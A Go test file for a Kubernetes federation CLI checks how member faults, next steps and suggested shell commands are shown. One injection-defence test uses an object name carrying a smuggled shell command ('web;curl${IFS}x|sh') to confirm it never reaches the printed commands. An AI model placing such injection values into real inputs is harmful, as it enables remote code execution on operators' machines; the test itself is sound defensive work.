// SPDX-License-Identifier: Apache-2.0

package describe

import (
	"encoding/json"
	"fmt"
	"strings"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"sigs.k8s.io/controller-runtime/pkg/client"

	"github.com/fairlead-dev/fairlead/apis/v1alpha1"
	"github.com/fairlead-dev/fairlead/cmd/hostctl/screen"
	"github.com/fairlead-dev/fairlead/internal/testing/build"
	"github.com/fairlead-dev/fairlead/internal/testing/golden"
)

// twoFaults returns a wrapper on three members, and its reports. On eu-1 and eu-2 the Deployment web crashes, and so does cache, for another
// reason. On eu-1 a claim is not bound either, for which a Job waits. On us-1 a Deployment has too few pods because a claim has no volume; the
// line names the Deployment, because the claim only waits.
func twoFaults() (w *v1alpha1.Federated, objects []client.Object) {
	w = storefront(func(w *v1alpha1.Federated) {
		w.Status.Clusters = []v1alpha1.ClusterStatus{
			line("eu-1", v1alpha1.StateDegraded, "CrashLoopBackOff", crashed, 3*time.Minute),
			line("eu-2", v1alpha1.StateDegraded, "CrashLoopBackOff", crashed, 2*time.Minute),
			line("us-1", v1alpha1.StateDegraded, "Unschedulable", "Deployment db: its pod cannot be scheduled: unbound PersistentVolumeClaims", time.Minute),
		}
		w.Status.Placement.Clusters = []string{"eu-1", "eu-2", "us-1"}
		w.Status.Counts = v1alpha1.ClusterCounts{Placed: new(int32(3)), Degraded: new(int32(3))}
	})
	web := build.MemberReport(w, "1111111111", "Deployment", "web", "CrashLoopBackOff", "eu-1", "eu-2")
	cache := build.MemberReport(w, "2222222222", "Deployment", "cache", "ImagePullBackOff", "eu-1", "eu-2")
	cache.Status.Message, cache.Status.ObservedTime = "pod cache-0: its image shop/cache:9 cannot be pulled: not found", ago(20*time.Second)
	cache.Status.Events = []v1alpha1.ObservedEvent{{Kind: "Pod", Name: "cache-0", Type: "Warning", Reason: "Failed", Message: "not found", Count: 1}}
	claim := build.MemberReport(w, "3333333333", "PersistentVolumeClaim", "data", v1alpha1.ReasonClassNotFound, "eu-1")
	claim.Status.Message = "this cluster has no StorageClass fast"
	job := build.MemberReport(w, "4444444444", "Job", "import", "Unschedulable", "eu-1") // the claim explains it
	pending := build.MemberReport(w, "5555555555", "PersistentVolumeClaim", "store", v1alpha1.ReasonClaimPending, "us-1")
	db := build.MemberReport(w, "6666666666", "Deployment", "db", "Unschedulable", "us-1")
	return w, []client.Object{w, web, cache, claim, job, pending, db}
}

func TestTheFurtherFaultsOfAMemberAreShown(t *testing.T) {
	for file, test := range map[string]struct {
		to   screen.Screen
		args []string
	}{
		"faults-pipe.txt":       {screen.Screen{}, nil},
		"faults-80-columns.txt": {screen.Screen{Width: 80}, nil},
		"faults-clusters.txt":   {screen.Screen{Width: 80}, []string{"--cluster", "eu-2"}},
	} {
		t.Run(file, func(t *testing.T) {
			_, objects := twoFaults()
			golden.Equal(t, file, describeWith(t, hostWith(t, nil, objects...), test.to, append(test.args, "storefront", "-n", "shop")...).stdout)
		})
	}
}

func TestTheFurtherFaultsForPrograms(t *testing.T) {
	_, objects := twoFaults()
	var got description
	if err := json.Unmarshal([]byte(describeWith(t, hostWith(t, nil, objects...), screen.Screen{}, "storefront", "-n", "shop", "-o", "json").stdout), &got); err != nil {
		t.Fatal(err)
	}
	var faults []string
	for _, e := range got.Evidence {
		for _, f := range e.Faults {
			if f.Next == "" || f.Command == "" {
				t.Errorf("%s has no next step or no command", f.Object)
			}
			faults = append(faults, fmt.Sprintf("%d: %s %s on %s, may cause: %v, explains %v", e.Cause, f.Object, f.Reason, strings.Join(f.Clusters, ","), f.MayCause, f.Consequences))
		}
	}
	if diff := cmp.Diff([]string{
		"1: Deployment cache ImagePullBackOff on eu-1,eu-2, may cause: false, explains []",
		"1: PersistentVolumeClaim data ClassNotFound on eu-1, may cause: false, explains [{Job import Unschedulable}]",
		"2: PersistentVolumeClaim store ClaimPending on us-1, may cause: true, explains []",
	}, faults); diff != "" {
		t.Errorf("(-want +got)\n%s", diff)
	}
}

func TestTheNextStepOfAFurtherFaultShowsTheEvidenceOfItsObject(t *testing.T) {
	w, objects := twoFaults()
	objects = append(objects, build.MemberReport(w, "7777777777", "Deployment", "beside", "CrashLoopBackOff", "us-1"))
	for flags, args := range map[string][]string{"--object Deployment/beside": nil, "--cluster us-1 --object Deployment/beside": {"--cluster", "us-1"}} {
		got := describeWith(t, hostWith(t, nil, objects...), screen.Screen{}, append(args, "storefront", "-n", "shop")...).stdout
		if want := "     next: run `hostctl logs storefront -n shop " + flags + "`; if "; !strings.Contains(got, want) {
			t.Errorf("%q is not in\n%s", want, got)
		}
	}
}

// People copy the commands into a shell, and a member chooses the names of the objects that it reports.
func TestTheCommandsHaveNoNameThatAMemberChose(t *testing.T) {
	w, objects := twoFaults()
	bad := build.MemberReport(w, "7777777777", "Deployment", "web;curl${IFS}x|sh", "CrashLoopBackOff", "us-1")
	var got description
	text := describeWith(t, hostWith(t, nil, append(objects, bad)...), screen.Screen{}, "storefront", "-n", "shop", "-o", "json").stdout
	if err := json.Unmarshal([]byte(text), &got); err != nil {
		t.Fatal(err)
	}
	found := false
	for _, e := range got.Evidence {
		for _, f := range e.Faults {
			found = found || f.Object == "Deployment "+bad.Status.Object.Name
			if strings.Contains(f.Command+f.Next, "curl") {
				t.Errorf("%s; %s", f.Command, f.Next)
			}
		}
	}
	if !found {
		t.Error("the fault itself must be shown")
	}
}

// The reasons of the manager about an operator replace that of the Subscription, and have other next steps.
func TestASubscriptionIsNoFurtherFaultOfItsOwnReinstall(t *testing.T) {
	for reason, own := range map[string]string{v1alpha1.ReasonReinstallWaits: v1alpha1.ReasonAheadOfTarget, v1alpha1.ReasonInstallPlanBundlesOthers: v1alpha1.ReasonInstallPlanPending} {
		w := storefront(func(w *v1alpha1.Federated) {
			w.Status.Clusters = []v1alpha1.ClusterStatus{line("eu-1", v1alpha1.StateDegraded, reason, "demo.v1.3.0 is installed, later than its target", time.Minute)}
		})
		r := build.MemberReport(w, "1111111111", "Subscription", "demo", own, "eu-1")
		if got := describeWith(t, hostWith(t, nil, w, r), screen.Screen{}, "storefront", "-n", "shop").stdout; strings.Contains(got, "also on") {
			t.Errorf("%s:\n%s", reason, got)
		}
	}
}

// A member may send a long message, and a report can have a hundred members.
func TestTheFurtherFaultsAreBounded(t *testing.T) {
	w := storefront(asIs)
	names := w.Status.Placement.Clusters[:24]
	objects := []client.Object{w}
	for i := range 9 {
		r := build.MemberReport(w, fmt.Sprintf("111111111%d", i), "Deployment", fmt.Sprintf("d%d", i), "CrashLoopBackOff", names...)
		r.Status.Message = strings.Repeat("it crashes ", 90)
		objects = append(objects, r)
	}
	printed := describeWith(t, hostWith(t, nil, objects...), screen.Screen{Width: 80}, "storefront", "-n", "shop").stdout
	got := strings.Join(strings.Fields(printed), " ")
	if strings.Count(got, " also on de-01, de-02, de-03 and 21 more: ") != maxFaults || strings.Count(got, "it crashes") > maxFaults*24 ||
		!strings.Contains(got, " also in trouble: CrashLoopBackOff (Deployment d3, Deployment d4, Deployment d5 and 3 more) ") {
		t.Error(printed)
	}
}

func TestOtherFaultsFromBeforeAnOutageAreNamed(t *testing.T) {
	w, objects := twoFaults()
	for i := range w.Status.Clusters {
		l := &w.Status.Clusters[i]
		l.State, l.Reason, l.Message = v1alpha1.StateUnreachable, v1alpha1.ReasonUnreachable, "connection refused"
	}
	text := describeWith(t, hostWith(t, nil, objects...), screen.Screen{}, "storefront", "-n", "shop").stdout
	const want = "   last evidence of eu-1 before the outage (20s ago): ImagePullBackOff (Deployment cache); also in trouble then: " +
		"ClassNotFound (PersistentVolumeClaim data); CrashLoopBackOff (Deployment web); Unschedulable (Job import); more: `hostctl events storefront -n shop --cluster eu-1`\n"
	if !strings.Contains(text, want) {
		t.Error(text)
	}
	var got description
	if err := json.Unmarshal([]byte(describeWith(t, hostWith(t, nil, objects...), screen.Screen{}, "storefront", "-n", "shop", "-o", "json").stdout), &got); err != nil {
		t.Fatal(err)
	}
	if len(got.Evidence) != 1 || !got.Evidence[0].FromBefore || len(got.Evidence[0].Earlier) != 3 {
		t.Fatalf("%+v", got.Evidence)
	}
	first := got.Evidence[0].Earlier[0]
	first.ObservedTime = metav1.Time{Time: first.ObservedTime.UTC()}
	if diff := cmp.Diff(earlier{Cluster: "eu-1", ObservedTime: ago(20 * time.Second), Object: "Deployment cache", Reason: "ImagePullBackOff",
		Others:  []consequence{{"PersistentVolumeClaim data", "ClassNotFound"}, {"Deployment web", "CrashLoopBackOff"}, {"Job import", "Unschedulable"}},
		Command: "hostctl events storefront -n shop --cluster eu-1"}, first); diff != "" {
		t.Errorf("(-want +got):\n%s", diff)
	}
}
